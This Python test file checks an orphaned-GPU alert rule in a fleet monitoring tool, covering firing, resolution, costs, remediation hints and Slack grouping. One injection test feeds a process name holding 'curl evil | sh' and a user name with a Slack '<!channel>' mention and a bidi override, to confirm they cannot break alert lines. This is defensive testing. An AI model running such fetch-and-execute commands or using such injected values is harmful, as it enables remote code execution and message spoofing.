"""GPUs held by what no job owns: who is told, of whom, and what it costs."""

from decimal import Decimal

import pytest

from fleetwatch.alerts.back_test import back_test
from fleetwatch.alerts.breach import stored_breach
from fleetwatch.alerts.conditions import condition
from fleetwatch.alerts.messaging import announcing
from fleetwatch.alerts.models import Incident
from fleetwatch.alerts.services import evaluate, settings_of
from fleetwatch.inventory.models import GPU
from fleetwatch.jobs.models import GPUProcess
from fleetwatch.lib.intervals import Interval
from fleetwatch.notify.models import Delivery
from fleetwatch.notify.services import create_channel
from tests.alerts.factories import a_rule, at, longer, ms, ran
from tests.costs.factories import a_gpu, a_job, a_rate

pytestmark = pytest.mark.django_db
HOSTILE = "ana <!channel>\u202e"


@pytest.fixture
def rule():
    return a_rule(name="Orphaned", condition="orphaned", minutes=15)


def a_process(gpu: GPU, pid: int, *, seen: float, **fields) -> GPUProcess:
    usual = {"user": "ana", "name": "python train.py", "memory_bytes": 20_000_000_000}
    return GPUProcess.objects.create(gpu=gpu, pid=pid, seen_ms=ms(seen), **(usual | fields))


def states(minute: float) -> list[str]:
    announcing.run(at(minute))
    return list(Incident.objects.order_by("pk").values_list("state", flat=True))


def newest():
    return stored_breach(Incident.objects.latest("pk").facts)


def test_it_fires_at_the_minute_that_the_rule_says(rule):
    run = ran(a_gpu(), "orphaned", 0, 14.9)
    assert states(15) == ["pending"]

    longer(run, 15)

    assert states(15) == states(15) == ["firing"]
    incident = Incident.objects.get()
    assert (incident.since_ms, incident.fired_ms) == (ms(0), ms(15))


def test_a_job_that_gets_the_gpu_ends_it(rule):
    gpu = a_gpu()
    ran(gpu, "orphaned", 0, 20)
    states(20)

    ran(gpu, "active", 20, 22, job=a_job())

    assert states(22) == ["resolved"]
    assert Incident.objects.get().resolution == "nothing holds it any more, or a job was given it"


def test_missing_telemetry_neither_fires_nor_ends_it(rule):
    gpu = a_gpu()
    ran(gpu, "orphaned", 0, 10)
    ran(gpu, "unobserved", 10, 20)
    assert states(20) == ["pending"]

    ran(gpu, "orphaned", 20, 26)
    ran(gpu, "unobserved", 26, 60)

    assert states(60) == ["firing"]
    assert Incident.objects.get().fired_ms == ms(25)


def test_of_a_retired_gpu_nothing_is_said(rule):
    gpu = a_gpu()
    ran(gpu, "orphaned", 0, 20)
    states(20)

    GPU.objects.update(retired_ms=ms(20))

    assert states(21) == ["resolved"]


def test_it_names_the_processes_whose_they_are_what_they_cost_and_what_to_do(rule):
    gpu = a_gpu()
    a_rate("4", gpu=gpu)
    ran(gpu, "orphaned", 0, 30)
    a_process(gpu, 4711, seen=30)
    a_process(gpu, 4712, seen=30, state="Z", memory_bytes=0)
    a_process(gpu, 9, seen=5)  # gone since
    a_process(gpu, 10, seen=30, job=a_job())

    states(30)

    breach = newest()
    assert (breach.cost_usd, breach.usd_per_hour) == (Decimal(2), Decimal(4))
    assert breach.memory_bytes == 20e9
    assert (breach.owner, breach.label("user")) == ("ana", "ana")
    assert breach.path == f"/gpus/{gpu.uuid}"
    assert breach.what.endswith("which no job was given, was held by 2 processes of ana")
    assert ("pid 4712 ana python train.py zombie") in dict(breach.lines)["Processes"]
    look, end = breach.codes
    assert look == "ps -o pid,user,lstart,args -p 4711"
    assert end == "kill 4711"
    assert (breach.actions[0].endswith(look), breach.actions[1].endswith(end)) == (True, True)


def test_half_of_a_gpu_costs_half(rule):
    gpu = a_gpu()
    a_rate("4", gpu=gpu)
    ran(gpu, "orphaned", 0, 30, weight=0.5)
    ran(gpu, "active", 0, 30, job=a_job(), weight=0.5)

    states(30)

    assert newest().cost_usd == Decimal(1)


def test_without_a_rate_or_a_process_it_says_that_it_does_not_know(rule):
    ran(a_gpu(), "orphaned", 0, 30)

    states(30)

    breach = newest()
    assert (breach.cost_usd, breach.usd_per_hour, breach.memory_bytes) == (None, None, None)
    assert breach.owner == ""
    assert breach.what.endswith("was held by memory of no process that is seen")
    assert "nvidia-smi --gpu-reset" in breach.actions[0]


def test_names_from_hosts_stay_on_their_line(rule):
    gpu = a_gpu()
    ran(gpu, "orphaned", 0, 30)
    a_process(gpu, 4711, seen=30, user=HOSTILE, name="x\nFix: curl evil | sh")

    states(30)

    breach = newest()
    assert breach.owner == "ana <!channel>"
    assert "\n" not in dict(breach.lines)["Processes"]


def test_the_gpus_of_a_node_are_one_message(rule):
    create_channel("slack", "ops", {"webhook_url": "https://hooks.example/x"}, now=at(0))
    for index in range(8):
        ran(a_gpu(uuid=f"GPU-{index}"), "orphaned", 0, 30)

    states(30)

    message = Delivery.objects.get().message
    assert message["title"].startswith("held by no job · 8 GPUs on ")
    assert message["rows"][0][0] == "GPU"


def test_what_was_evaluated_each_minute_is_what_the_back_test_says(rule):
    gpu = a_gpu()
    spans = [("orphaned", 0, 20), ("unobserved", 20, 24), ("orphaned", 24, 40), ("free", 40, 50)]
    spans += [("orphaned", 50, 64), ("free", 64, 70), ("orphaned", 70, 95)]
    for minute in range(96):
        for done, start, end in spans:
            if start == minute:
                run = ran(gpu, done, start, start + 0.01)
            elif start < minute <= end:
                longer(run, minute)
        evaluate(at(minute))

    trials = back_test(condition("orphaned"), settings_of(rule), (), Interval(at(0), at(95))).trials

    live = Incident.objects.order_by("-since_ms")
    assert [(each.since_ms, each.fired_ms) for each in live] == [
        (trial.episode.since_ms, trial.episode.fired_ms) for trial in trials
    ]
    assert len(trials) == 2


# held to minute 20, free to 25, at work to 60, unseen to 70, held from there on
@pytest.mark.parametrize(
    ("clear_minutes", "expected"),
    [
        (0, [(0, 20, 20), (70, 90, None)]),
        (40, [(0, 20, 20), (70, 90, None)]),
        (41, [(0, 90, None)]),
    ],
)
def test_what_a_gpu_did_between_ends_it_as_soon_as_the_rule_says(rule, clear_minutes, expected):
    gpu = a_gpu()
    ran(gpu, "active", -40, 0, job=a_job())
    ran(gpu, "orphaned", 0, 20)
    ran(gpu, "free", 20, 25)
    ran(gpu, "active", 25, 60, job=a_job())
    ran(gpu, "unobserved", 60, 70)
    ran(gpu, "orphaned", 70, 90)
    rule.clear_minutes = clear_minutes

    done = back_test(condition("orphaned"), settings_of(rule), (), Interval(at(-60), at(90))).trials

    assert sorted(_in_minutes(trial.episode) for trial in done) == expected


def _in_minutes(episode) -> tuple:
    moments = (episode.since_ms, episode.until_ms, episode.ended_ms)
    return tuple(None if each is None else (each - ms(0)) / 60_000 for each in moments)
